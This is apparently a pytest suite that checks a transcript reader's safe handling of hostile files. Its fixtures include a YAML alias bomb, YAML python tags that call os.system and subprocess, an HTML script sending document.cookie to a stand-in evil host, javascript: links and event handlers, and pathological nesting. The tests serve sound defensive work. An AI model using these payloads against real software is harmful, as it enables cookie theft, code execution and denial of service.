"""Hostile input: a library of broken, malicious and pathological files.

Each file must load (`load_transcript`, `read_metadata`) without raising, with a clear message
where one is due; the library scan must finish; `transcript-reader check --json` must report on
every file and change nothing on disk. Nothing may execute YAML tags, fetch a URL (the suite's
network guard fails any connection), recurse without bound, take quadratic time or blow memory.
The sizes are chosen so that a naive implementation (full alias expansion, recursion per nesting
level, rescanning a line per marker) would hang or crash the test.
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest

from reader.cli import main
from reader.core.library import iter_transcript_paths, load_library
from reader.core.transcript import MAX_FILE_BYTES, Transcript, load_transcript, read_metadata

MARKER = "pwned-marker"


def _alias_bomb() -> str:
    """Billion laughs: 10 levels of 10 aliases each expand to 10**10 strings."""
    lines = ["---", 'a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 11):
        refs = ",".join([f"*a{i - 1}"] * 10)
        lines.append(f"a{i}: &a{i} [{refs}]")
    lines += ["title: Bomb", "---", "Body after the bomb.", ""]
    return "\n".join(lines)


def _deep_quotes(n: int) -> str:
    return ">" * n + " deep quote\n"


def _deep_list(n: int) -> str:
    """``n`` list levels on one line (``- - - item``), then 1,000 indented levels."""
    return "- " * n + "item\n\n" + "".join(" " * i + "- item\n" for i in range(1000))


def _huge_line(size: int) -> bytes:
    unit = "Words *em* and **strong** [a link](http://example.invalid/x) `code` [ * _ < & "
    return (unit * (size // len(unit) + 1))[:size].encode("ascii")


def _many_lines(n: int) -> bytes:
    head = "PB - Peter Beresford\nMM - Mo Mansoor\n\n"
    lines = [
        f"{'PB' if i % 2 else 'MM'} Line {i} of the talk, with *some* words.\n\n" for i in range(n)
    ]
    return (head + "".join(lines)).encode("ascii")


HTML = """---
title: Raw HTML
---
<p><strong>Ann:</strong> Hello <b>there</b>.</p>
<script>document.location = "http://evil.invalid/steal?c=" + document.cookie;</script>
<img src="http://tracker.invalid/pixel.png" alt="a pixel">
<iframe src="http://evil.invalid/frame"></iframe>
<style>body { background: url(http://tracker.invalid/bg.png) }</style>
<a href="javascript:alert(1)">click</a> and <svg onload="alert(2)">x</svg>
<p onclick="alert(3)">The end of the talk.</p>
"""


# file name → bytes; "expect" below says which message each must carry
def _files(root: Path) -> dict[str, bytes]:
    marker = root.parent / MARKER
    python_tag = (
        "---\n"
        f'title: !!python/object/apply:os.system ["echo pwned > {marker}"]\n'
        f'other: !!python/object/apply:subprocess.call [["touch", "{marker}"]]\n'
        "---\nBody.\n"
    )
    text = "---\ntitle: Café\n---\nPB - Peter Beresford\n\nPB Hé, this is UTF-16.\n"
    return {
        "empty.md": b"",
        "blank.md": b"  \n\n\t\n",
        "binary.md": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4,
        "invalid-utf8.md": b"Caf\xe9 au lait, \x81\x8d and \xc3\x28 broken.\n",
        "utf16-bom.md": text.encode("utf-16"),
        "utf16-le-nobom.md": text.encode("utf-16-le"),
        "utf16-be-nobom.md": text.encode("utf-16-be"),
        "cr-only.md": b"PB - Peter Beresford\r\rPB Hello there.\rStill me.\r\rPB Bye.\r",
        "unterminated.md": b"---\ntitle: Never closed\ndate: 2020-01-01\n\nThe body.\n",
        "invalid-yaml.md": b"---\ntitle: [unclosed\n  - : : x\n---\nStill the body.\n",
        "python-tag.md": python_tag.encode(),
        "alias-bomb.md": _alias_bomb().encode(),
        "huge-line.md": _huge_line(20 * 1024 * 1024),
        "many-lines.md": _many_lines(200_000),
        "html.md": HTML.encode(),
        "deep-quotes.md": _deep_quotes(10_000).encode(),
        "deep-list.md": _deep_list(10_000).encode(),
        "brackets.md": ("[" * 100_000 + "x" + "]" * 10 + "\n").encode(),
        "stars.md": ("*" * 50_000 + "x\n\n" + "* a " * 12_500 + "\n").encode(),
        "nested-all.md": (
            _deep_quotes(10_000)
            + "\n"
            + _deep_list(10_000)
            + "\n"
            + "[" * 100_000
            + "\n\n"
            + "*" * 50_000
            + "\n\n"
            + "_" * 20_000
            + " "
            + "`" * 20_000
            + " "
            + "~" * 20_000
            + "\n\n"
            + "![" * 20_000
            + "\n\n"
            + "<" * 20_000
            + "&" * 20_000
            + "\\" * 20_000
            + "\n"
        ).encode(),
    }


# file name → (where, substring) of a message that must be there; None: no errors at all
EXPECT: dict[str, tuple[str, str] | None] = {
    "empty.md": ("warnings", "empty"),
    "blank.md": ("warnings", "empty"),
    "binary.md": ("errors", "not a text file"),
    "invalid-utf8.md": ("warnings", "not valid UTF-8"),
    "utf16-bom.md": None,
    "utf16-le-nobom.md": ("warnings", "UTF-16"),
    "utf16-be-nobom.md": ("warnings", "UTF-16"),
    "cr-only.md": None,
    "unterminated.md": ("warnings", "unterminated"),
    "invalid-yaml.md": ("errors", "invalid YAML"),
    "python-tag.md": ("errors", "refused"),
    "alias-bomb.md": ("errors", "refused"),
    "huge-line.md": ("warnings", "without formatting"),
    "many-lines.md": None,
    "html.md": None,
    "deep-quotes.md": None,
    "deep-list.md": None,
    "brackets.md": None,
    "stars.md": None,
    "nested-all.md": None,
}


# messages only a full parse can give (`read_metadata` reads the head of the file)
FOUND_IN_BODY = {"huge-line.md"}


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile") / "lib"
    root.mkdir()
    for name, data in _files(root).items():
        (root / name).write_bytes(data)
    # a folder named like a transcript, with a transcript inside: the folder is never a file,
    # its contents are scanned like any folder's
    (root / "folder.md").mkdir()
    (root / "folder.md" / "inside.md").write_text("Inside a folder named folder.md.\n")
    # a symlink loop: a folder holding a link to its parent
    (root / "sub").mkdir()
    (root / "sub" / "nested.md").write_text("PB Nested file.\n")
    try:
        (root / "sub" / "up").symlink_to(root, target_is_directory=True)
        (root / "sub" / "self").symlink_to(root / "sub", target_is_directory=True)
    except (OSError, NotImplementedError):
        pass  # no symlinks on this system: the rest still runs
    return root


def _snapshot(root: Path) -> dict[str, tuple[bytes | str, int]]:
    """Every entry below ``root`` (links not followed): its bytes or link target, and mtime."""
    out: dict[str, tuple[bytes | str, int]] = {}
    for dirpath, dirnames, filenames in os.walk(root, followlinks=False):
        for name in dirnames + filenames:
            path = Path(dirpath, name)
            st = path.lstat()
            if path.is_symlink():
                out[str(path)] = (os.readlink(path), st.st_mtime_ns)
            elif path.is_file():
                out[str(path)] = (path.read_bytes(), st.st_mtime_ns)
            else:
                out[str(path)] = ("<dir>", st.st_mtime_ns)
    return out


def check_invariants(t: Transcript) -> None:
    text = t.text
    assert "\r" not in text and "\x00" not in text
    pos = 0
    for i, b in enumerate(t.blocks):
        if i:
            assert text[pos] == "\n"
            pos += 1
        assert b.start == pos < b.end <= len(text)
        for span in b.spans:
            assert b.start <= span.start < span.end <= b.end
        pos = b.end
    assert pos == len(text)


def _messages(meta: object, where: str) -> str:
    return " | ".join(getattr(meta, where))


@pytest.mark.parametrize("name", sorted(EXPECT))
def test_load_and_metadata(library: Path, name: str) -> None:
    path = library / name
    t = load_transcript(path)
    meta = read_metadata(path)
    check_invariants(t)
    expected = EXPECT[name]
    if expected is None:
        assert t.meta.errors == [] and meta.errors == [], (t.meta.errors, meta.errors)
    else:
        where, needle = expected
        assert needle in _messages(t.meta, where), (t.meta.errors, t.meta.warnings)
        if name not in FOUND_IN_BODY:
            assert needle in _messages(meta, where), (meta.errors, meta.warnings)
    for m in (t.meta, meta):
        assert all(isinstance(s, str) and "\n" not in s and len(s) < 400 for s in m.errors)
        assert all(isinstance(s, str) and "\n" not in s and len(s) < 400 for s in m.warnings)
        assert isinstance(m.title, str) and m.title


def test_python_tags_never_execute(library: Path) -> None:
    path = library / "python-tag.md"
    t = load_transcript(path)
    read_metadata(path)
    assert not (library.parent / MARKER).exists()
    assert t.meta.title == "Python Tag"  # the file name, not the tag's result
    assert t.text == "Body."


def test_alias_bomb_is_refused_and_body_kept(library: Path) -> None:
    t = load_transcript(library / "alias-bomb.md")
    assert t.meta.fields == {} and t.text == "Body after the bomb."


def test_utf16_and_line_endings(library: Path) -> None:
    for name in ("utf16-bom.md", "utf16-le-nobom.md", "utf16-be-nobom.md"):
        t = load_transcript(library / name)
        assert t.meta.title == "Café", name
        assert t.text.endswith("Hé, this is UTF-16."), name
        assert t.speaker_key == {"PB": "Peter Beresford"}
    cr = load_transcript(library / "cr-only.md")
    assert cr.speaker_key == {"PB": "Peter Beresford"}
    turns = [cr.text[b.start : b.end] for b in cr.blocks if b.kind == "turn"]
    assert turns == ["Hello there. Still me.", "Bye."]


def test_invalid_utf8_is_decoded_with_a_warning(library: Path) -> None:
    t = load_transcript(library / "invalid-utf8.md")
    assert t.text.startswith("Café au lait")


def test_raw_html_is_inert(library: Path) -> None:
    t = load_transcript(library / "html.md")
    for bad in ("document.cookie", "evil.invalid", "tracker.invalid", "onload", "onclick"):
        assert bad not in t.text
    for b in t.blocks:
        for span in b.spans:
            assert not (span.href or "").lower().startswith("javascript:")
    assert "The end of the talk." in t.text
    assert "Hello there." in t.text and "click" in t.text


def test_huge_files_are_linear(library: Path) -> None:
    t0 = time.perf_counter()
    line = load_transcript(library / "huge-line.md")
    t1 = time.perf_counter()
    many = load_transcript(library / "many-lines.md")
    t2 = time.perf_counter()
    assert len(line.text) > 19_000_000 and len(line.blocks) == 1
    assert line.text.startswith("Words *em* and **strong**")  # too long to format: as written
    assert sum(1 for b in many.blocks if b.kind == "turn") == 200_000
    # generous bounds: a quadratic pass over 20 MB would take hours
    assert t1 - t0 < 60 and t2 - t1 < 60


def test_deep_nesting_is_capped(library: Path) -> None:
    quotes = load_transcript(library / "deep-quotes.md")
    assert quotes.text == "deep quote" and quotes.blocks[0].level <= 6
    lists = load_transcript(library / "deep-list.md")
    assert len(lists.blocks) == 1001 and max(b.level for b in lists.blocks) <= 6
    brackets = load_transcript(library / "brackets.md")
    assert brackets.text.startswith("[[[") and "x" in brackets.text
    stars = load_transcript(library / "stars.md")
    assert stars.text.startswith("*****")


def test_too_large_file_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "giant.md"
    with path.open("wb") as fh:  # sparse where the file system allows: cheap to make
        fh.truncate(MAX_FILE_BYTES + 1)
    t = load_transcript(path)
    assert t.text == "" and "too large" in " ".join(t.meta.errors)
    meta = read_metadata(path)
    assert meta.errors  # NUL bytes: not a text file (and never read whole)


def test_scan_finishes(library: Path) -> None:
    paths = list(iter_transcript_paths(library))
    names = [p.relative_to(library).as_posix() for p in paths]
    assert names == sorted(EXPECT, key=lambda n: (n.casefold(), n)) + [
        "folder.md/inside.md",
        "sub/nested.md",
    ]
    metas = load_library(library)
    assert [m.path for m in metas] == paths


def test_check_json_reports_every_file_and_changes_nothing(
    library: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = _snapshot(library)
    assert main(["check", str(library), "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert _snapshot(library) == before
    assert not (library.parent / MARKER).exists()
    entries = {Path(e["path"]).relative_to(library).as_posix(): e for e in report["transcripts"]}
    assert set(entries) == set(EXPECT) | {"folder.md/inside.md", "sub/nested.md"}
    for name, expected in EXPECT.items():
        entry = entries[name]
        if expected is None:
            assert entry["errors"] == [], (name, entry["errors"])
        else:
            where, needle = expected
            assert needle in " | ".join(entry[where]), (name, entry)


# --- YAML front matter on libyaml ------------------------------------------------------------
# The loader is built on libyaml's C parser when PyYAML has it. Its composer cannot be hooked, so
# aliases and their expansion are counted after composing: these pin the same refusals (and the
# same results and messages as the pure-Python loader) on both.

YAML_REFUSED = {
    "101 aliases": "a: &a x\nb: [" + ",".join(["*a"] * 101) + "]\n",
    "aliases as keys and values": "a: &a k\nm: {" + ",".join(["*a: *a"] * 60) + "}\n",
    "recursive alias": "a: &a [x, *a]\n",
    "nesting over 200": "x: " + "[" * 250 + "]" * 250 + "\n",
    "block nesting over 200": "".join(" " * i + "k:\n" for i in range(250)) + " " * 250 + "v\n",
    "expansion": "a: &a [" + ",".join(["x"] * 600) + "]\nb: [" + ",".join(["*a"] * 99) + "]\n",
    "python tag": "t: !!python/object/apply:os.system ['true']\n",
}


@pytest.mark.parametrize("name", sorted(YAML_REFUSED))
def test_yaml_limits_hold_on_both_loaders(name: str) -> None:
    from reader.core import yaml_safe as fm

    raw = YAML_REFUSED[name]
    for loader in {fm.BoundedSafeLoader, fm.PyBoundedSafeLoader}:
        errors: list[str] = []
        assert fm._load_yaml_with(loader, raw, errors, retry=False) is None, loader
        assert len(errors) == 1 and errors[0].startswith("front matter refused"), errors
    errors = []
    assert fm.load_yaml(raw, errors) is None and "refused" in errors[0]


YAML_ACCEPTED = [
    "a: &a [x, y]\nb: [" + ",".join(["*a"] * 100) + "]\n",  # 100 aliases: the limit
    "base: &b {speakers: [Ann Lee], date: 2020-01-01}\n<<: *b\ntitle: Merged\n",
    "x: " + "[" * 200 + "]" * 200 + "\n",
    "t: 12:30:00\nd: 2020-01-02 03:04:05\nn: ~\nb: [yes, No, off]\nf: [.inf, -.5, 1e3, 0x1f]\n",
    "s: !!set {a, b}\nstr: !!str 12\nbin: !!binary aGVsbG8=\nomap: !!omap [x: 1]\n",
    "? [complex, key]\n: v\n",
    "= : value key\n1: one\ntrue: true\nnull: null\n2020-01-01: date key\n",
    "'quoted': \"esc\\u00e9\\n\"\nplain: a # comment\nfolded: >\n  a\n  b\nlit: |\n  c\n",
    "dup: 1\ndup: 2\n",
    "",
    "just text\n",
    "- a\n- b\n",
    "title: [unclosed\n  - : : x\n",
    'title: "Tab"\n\tdate: 2020\n',
    "a: !!timestamp 2020-13-45\n",
    "a: *undefined\n",
    "a: &x 1\nb: &x 2\nc: *x\n",
]


@pytest.mark.parametrize("raw", YAML_ACCEPTED)
def test_yaml_loaders_agree(raw: str) -> None:
    """libyaml and the pure-Python loader give the same data, or the same error message."""
    from reader.core import yaml_safe as fm

    fast_errors: list[str] = []
    slow_errors: list[str] = []
    fast = fm.load_yaml(raw, fast_errors)
    slow = fm._load_yaml_with(fm.PyBoundedSafeLoader, raw, slow_errors, retry=False)
    assert repr(fast) == repr(slow)
    assert fast_errors == slow_errors


def test_alias_bomb_in_a_large_front_matter_is_refused_quickly(tmp_path: Path) -> None:
    """A 60 KB front matter of aliases (the most that is read) is refused in well under 1 s."""
    refs = ",".join(["*a"] * 10)
    lines = ["---", "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"b{i}: [{refs}]" for i in range(1500)]
    path = tmp_path / "bomb.md"
    path.write_text("\n".join([*lines, "title: Bomb", "---", "Body.", ""]), encoding="utf-8")
    t0 = time.perf_counter()
    meta = read_metadata(path)
    t = load_transcript(path)
    assert time.perf_counter() - t0 < 5
    assert any("refused" in e for e in meta.errors) and t.meta.fields == {}
    assert t.text == "Body."


def test_libyaml_is_used_when_available() -> None:
    import yaml

    from reader.core import yaml_safe as fm

    if getattr(yaml, "__with_libyaml__", False):
        assert issubclass(fm.BoundedSafeLoader, yaml.CSafeLoader)
    else:  # pragma: no cover - PyYAML without libyaml
        assert fm.BoundedSafeLoader is fm.PyBoundedSafeLoader


def test_the_search_index_takes_every_file(
    library: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Indexing the hostile library finishes (in worker processes, as a large update would),
    reports no file as broken that the parser reads, and its words are found in their passages;
    nothing is written beside the transcripts."""
    from reader.core.search import Index

    monkeypatch.setenv("TRANSCRIPT_READER_HOME", str(tmp_path / "home"))
    before = _snapshot(library)
    t0 = time.perf_counter()
    with Index(library) as index:
        index.PARALLEL_MIN = 1
        stats = index.update()
        assert stats.total == len(EXPECT) + 2 and not stats.cancelled
        assert stats.parsed == stats.total and not stats.errors
        hits = index.search("words", limit=5)
        assert hits and all(r.kind in ("text", "title") for r in hits)
        (cafe,) = {r.path.name for r in index.search("café", limit=50)} & {"utf16-bom.md"}
        assert cafe == "utf16-bom.md"
        (inside,) = index.search('"inside a folder"')
        assert inside.path == library / "folder.md" / "inside.md" and inside.kind == "text"
        assert index.search("pwned") == []  # the tags' text is front matter, not the body
    # generous: a quadratic pass over the 20 MB line would take hours
    assert time.perf_counter() - t0 < 120
    assert _snapshot(library) == before
